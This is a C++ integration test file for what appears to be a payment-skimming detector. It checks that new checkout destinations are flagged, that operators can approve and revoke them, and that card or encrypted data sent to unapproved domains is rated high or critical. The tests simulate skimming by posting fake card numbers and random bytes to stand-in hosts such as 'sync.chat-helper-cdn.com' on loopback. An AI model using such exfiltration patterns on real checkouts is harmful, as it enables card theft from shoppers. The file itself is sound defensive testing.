// Where data goes: a real curl and a real nginx with TLS, the whole agent and collector.

#include <signal.h>

#include <algorithm>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/integration/support/cards.h"
#include "tests/integration/support/deployment.h"
#include "tests/integration/support/web_server.h"
#include "tests/proto/tls/certificates.h"
#include "tests/support/child_process.h"
#include "tests/support/daemon.h"
#include "tests/support/nginx.h"

namespace skimwatch::integration {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

// A server of whoever answers, with TLS and without.
constexpr char kNginx[] = R"(  access_log off;
  server {
    listen 127.0.0.1:@TLS@ ssl;
    listen 127.0.0.1:@PLAIN@;
    ssl_certificate own.crt;
    ssl_certificate_key own.key;
    location / { return 200 "taken\n"; }
  }
)";

// What is told of a destination as `NEW evil.com`.
std::string Describe(const v1::Finding& finding) {
  const v1::DestinationChange& change = finding.destination_change();
  return absl::StrCat(v1::DestinationChange::Change_Name(change.change()).substr(7), " ",
                      change.name());
}

class Destinations : public ::testing::Test {
 protected:
  void SetUp() override { ASSERT_NO_FATAL_FAILURE(deployment_.StartCollector()); }

  void StartServer() {
    folder_ = deployment_.site_folder() + "/outside";
    const testing::CertificateAuthority ca("test CA");
    testing::WriteTlsFiles(folder_, ca.Issue(testing::ServerLeaf()), ca);
    tls_port_ = FreePort();
    plain_port_ = FreePort();
    nginx_ = std::make_unique<testing::Nginx>(folder_);
    const std::string servers = absl::StrReplaceAll(
        kNginx, {{"@TLS@", absl::StrCat(tls_port_)}, {"@PLAIN@", absl::StrCat(plain_port_)}});
    ASSERT_TRUE(nginx_->Start(servers, [&] {
      return !testing::HttpGet(plain_port_, "/hello").empty();
    })) << nginx_->Log();
  }

  // An agent that captures what goes to the server.
  void Configure(const std::string& destinations) {
    deployment_.agent_yaml =
        absl::StrCat("sources: { packet_captures: [{ interface: lo, filter: \"tcp port ", tls_port_,
                     " or tcp port ", plain_port_, "\" }] }\nscan: { fold_window_seconds: 1 }\n",
                     "destinations: { ", destinations, " }\n");
  }

  // As a program of the host does: a name that leads to loopback here, and TLS.
  void CurlTls(const std::string& host) {
    const testing::Result result = testing::RunProgram(
        {.command = {testing::Where("curl"), "-sk", "--http1.1", "--resolve",
                     absl::StrCat(host, ":", tls_port_, ":127.0.0.1"),
                     absl::StrCat("https://", host, ":", tls_port_, "/collect")}},
        "");
    ASSERT_EQ(result.code, 0) << result.err;
    ASSERT_EQ(result.out, "taken\n");
  }

  std::vector<v1::StoredFinding> ChangeFindings() {
    std::vector<v1::StoredFinding> changes;
    for (v1::StoredFinding& stored : deployment_.Findings()) {
      if (stored.finding().has_destination_change()) changes.push_back(std::move(stored));
    }
    return changes;
  }
  std::vector<std::string> Changes() {
    std::vector<std::string> changes;
    for (const v1::StoredFinding& stored : ChangeFindings()) {
      changes.push_back(Describe(stored.finding()));
    }
    return changes;
  }
  bool Await(const std::string& change) {
    return testing::WaitUntil([&] {
      const std::vector<std::string> changes = Changes();
      return std::find(changes.begin(), changes.end(), change) != changes.end();
    });
  }
  std::vector<v1::Exposure> OpenExposures() {
    std::vector<v1::Exposure> open;
    for (v1::Exposure& exposure : deployment_.Exposures()) {
      if (exposure.kind() == v1::FINDING_KIND_DESTINATION_CHANGE &&
          exposure.state() == v1::Exposure::STATE_OPEN) {
        open.push_back(std::move(exposure));
      }
    }
    return open;
  }
  // The agent runs the policy that the collector has now.
  void AwaitPolicy(uint64_t above) {
    EXPECT_TRUE(testing::WaitUntil([&] {
      return deployment_.AgentMetric("skimwatch_policy_version") > static_cast<double>(above);
    }));
  }
  uint64_t PolicyVersion() {
    return static_cast<uint64_t>(deployment_.AgentMetric("skimwatch_policy_version"));
  }
  void Ctl(const std::vector<std::string>& arguments) {
    const testing::Result result = deployment_.Ctl(arguments);
    EXPECT_EQ(result.code, 0) << result.out << result.err;
  }

  Deployment deployment_;
  std::string folder_;
  int tls_port_ = 0;
  int plain_port_ = 0;
  std::unique_ptr<testing::Nginx> nginx_;
};

TEST_F(Destinations, AreLearnedThenANewOneIsToldOnce) {
  if (!MayCapture()) GTEST_SKIP() << "needs CAP_NET_RAW";
  ASSERT_NO_FATAL_FAILURE(StartServer());
  Configure("learn_days: 14");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  ASSERT_NO_FATAL_FAILURE(CurlTls("api.stripe.com"));
  ASSERT_TRUE(Await("PROPOSED stripe.com"));
  EXPECT_THAT(OpenExposures(), IsEmpty());
  EXPECT_EQ(deployment_.StopAgent(SIGTERM), 0);

  // Learning is over.
  Configure("learn_days: 0, checkout_processes: [\"*\"]");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  ASSERT_NO_FATAL_FAILURE(CurlTls("api.stripe.com"));
  ASSERT_NO_FATAL_FAILURE(CurlTls("cdn.chat-widget.com"));
  ASSERT_TRUE(Await("NEW chat-widget.com"));
  for (int i = 0; i < 3; ++i) ASSERT_NO_FATAL_FAILURE(CurlTls("cdn.chat-widget.com"));
  // Nor after a crash.
  ASSERT_NE(deployment_.StopAgent(SIGKILL), 0);
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  ASSERT_NO_FATAL_FAILURE(CurlTls("x.chat-widget.com"));
  ASSERT_NO_FATAL_FAILURE(CurlTls("last.example-of-more.com"));
  ASSERT_TRUE(Await("NEW example-of-more.com"));
  EXPECT_THAT(Changes(),
              ElementsAre("PROPOSED stripe.com", "NEW chat-widget.com", "NEW example-of-more.com"));

  const v1::Finding finding = ChangeFindings()[1].finding();
  EXPECT_EQ(finding.severity(), v1::SEVERITY_HIGH);
  EXPECT_EQ(finding.rule(), "destination.new");
  EXPECT_EQ(finding.site(), "shop");
  EXPECT_EQ(finding.provenance().host(), "cdn.chat-widget.com");
  EXPECT_EQ(finding.provenance().protocol(), v1::PROTOCOL_TLS);
  const v1::DestinationChange& change = finding.destination_change();
  EXPECT_TRUE(change.checkout());
  EXPECT_THAT(change.hosts(), ElementsAre("cdn.chat-widget.com"));
  EXPECT_THAT(change.addresses(), ElementsAre("127.0.0.1"));
  EXPECT_THAT(change.ports(), ElementsAre(tls_port_));
  EXPECT_THAT(change.alpn(), ElementsAre("http/1.1"));
  ASSERT_EQ(change.ja4_size(), 1);
  EXPECT_THAT(change.ja4(0), HasSubstr("_"));
  EXPECT_EQ(OpenExposures().size(), 2U);
}

TEST_F(Destinations, ApprovalsReachTheAgentAndCanBeTakenBack) {
  if (!MayCapture()) GTEST_SKIP() << "needs CAP_NET_RAW";
  ASSERT_NO_FATAL_FAILURE(StartServer());
  Configure("learn_days: 0");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  ASSERT_NO_FATAL_FAILURE(CurlTls("www.first.com"));
  ASSERT_TRUE(Await("NEW first.com"));
  EXPECT_EQ(OpenExposures().size(), 1U);
  EXPECT_EQ(
      deployment_.CollectorMetric("skimwatch_destinations{site=\"shop\",state=\"unapproved\"}"), 1);

  uint64_t version = PolicyVersion();
  Ctl({"destinations", "approve", "first.com", "--justification", "our first partner"});
  EXPECT_THAT(OpenExposures(), IsEmpty());
  AwaitPolicy(version);
  version = PolicyVersion();
  Ctl({"destinations", "approve", "second.com", "--until", "30d", "--justification", "a trial"});
  AwaitPolicy(version);
  ASSERT_NO_FATAL_FAILURE(CurlTls("www.first.com"));
  ASSERT_NO_FATAL_FAILURE(CurlTls("api.second.com"));
  ASSERT_TRUE(Await("PROPOSED second.com"));
  EXPECT_THAT(Changes(), ElementsAre("NEW first.com", "PROPOSED second.com"));
  EXPECT_THAT(OpenExposures(), IsEmpty());

  const testing::Result list = deployment_.Ctl({"destinations", "list"});
  EXPECT_THAT(list.out, HasSubstr("approved"));
  EXPECT_THAT(list.out, HasSubstr("second.com"));
  const testing::Result show = deployment_.Ctl({"destinations", "show", "second.com"});
  EXPECT_THAT(show.out, HasSubstr("a trial"));
  EXPECT_THAT(show.out, HasSubstr("api.second.com"));

  version = PolicyVersion();
  Ctl({"destinations", "revoke", "second.com", "--reason", "the trial is over"});
  EXPECT_EQ(OpenExposures().size(), 1U);
  AwaitPolicy(version);
  ASSERT_NO_FATAL_FAILURE(CurlTls("api.second.com"));
  ASSERT_TRUE(Await("NEW second.com"));
  EXPECT_EQ(OpenExposures().size(), 1U);
}

TEST_F(Destinations, ACardToOneThatIsNotApprovedIsCritical) {
  if (!MayCapture()) GTEST_SKIP() << "needs CAP_NET_RAW";
  enum Planted : size_t { kUnapproved, kApproved, kCount };
  ASSERT_NO_FATAL_FAILURE(StartServer());
  Configure("learn_days: 0");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  const uint64_t version = PolicyVersion();
  // Nothing was seen yet that would tell the site.
  Ctl({"destinations", "approve", "partner.com", "--site", "shop", "--justification", "a partner"});
  AwaitPolicy(version);
  const auto post = [&](const std::string& host, size_t card) {
    EXPECT_THAT(Exchange(plain_port_, Post(host, "/collect", "cardNumber=" + CardNumber(card))),
                HasSubstr("taken"));
  };
  post("www.chat-widget.com", kUnapproved);
  post("api.partner.com", kApproved);
  deployment_.WaitForCards(kCount);
  const std::map<size_t, StoredCard> cards = deployment_.Cards(kCount);
  const v1::Finding unapproved = cards.at(kUnapproved).findings.at(0).finding();
  EXPECT_EQ(unapproved.severity(), v1::SEVERITY_CRITICAL);
  EXPECT_THAT(unapproved.card_number().evidence(), ::testing::Contains("unapproved_destination"));
  const v1::Finding approved = cards.at(kApproved).findings.at(0).finding();
  EXPECT_THAT(approved.card_number().evidence(),
              ::testing::Not(::testing::Contains("unapproved_destination")));
  ASSERT_TRUE(Await("NEW chat-widget.com"));
  deployment_.ExpectNoNumberKept(kCount);
}

// A chat widget that shops had embedded for years was changed, and sent what customers typed into
// the checkout, encrypted, to a domain that was registered for it.
TEST_F(Destinations, ACheckoutThatSendsWhatNobodyCanReadSomewhereNewIsSeen) {
  const int mirror_port = FreePort();
  deployment_.agent_yaml =
      absl::StrCat("sources: { http_mirrors: [{ listen: \"127.0.0.1:", mirror_port,
                   "\" }] }\ndestinations: { learn_days: 0, checkout_processes: [\"*\"] }\n");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  std::string secret(20'000, '\0');
  std::ifstream("/dev/urandom", std::ios::binary)
      .read(secret.data(), static_cast<std::streamsize>(secret.size()));
  Exchange(mirror_port, Post("sync.chat-helper-cdn.com", "/e", secret,
                             "Referer: https://shop.example/checkout\r\n"));
  ASSERT_TRUE(Await("OPAQUE_PAYLOAD chat-helper-cdn.com"));
  ASSERT_TRUE(Await("NEW chat-helper-cdn.com"));
  for (const v1::StoredFinding& stored : ChangeFindings()) {
    const v1::Finding& finding = stored.finding();
    EXPECT_EQ(finding.severity(), v1::SEVERITY_HIGH);
    EXPECT_EQ(finding.provenance().referrer(), "https://shop.example");
    if (finding.rule() != "destination.opaque_payload") continue;
    const v1::OpaquePayload& opaque = finding.destination_change().opaque();
    EXPECT_EQ(opaque.form(), "binary");
    EXPECT_GE(opaque.bytes(), 4096U);
    EXPECT_GT(opaque.entropy_bits(), 7.9);
  }
  ASSERT_EQ(OpenExposures().size(), 1U);
  EXPECT_EQ(OpenExposures()[0].severity(), v1::SEVERITY_HIGH);
  EXPECT_EQ(OpenExposures()[0].destination(), "chat-helper-cdn.com");
}

}  // namespace
}  // namespace skimwatch::integration
